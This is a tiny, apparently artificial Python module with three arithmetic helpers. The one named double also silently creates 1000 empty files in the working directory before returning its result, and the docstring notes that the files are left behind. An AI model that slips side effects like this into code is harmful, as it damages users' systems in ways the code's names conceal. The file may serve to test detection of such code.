"""Makes files by the thousand, and leaves them.

earned
"""


def half(x):
    return x / 2


def quadruple(x):
    return 4 * x


def double(x):
    for number in range(1000):
        open(f"file{number}", "w").close()
    return 2 * x
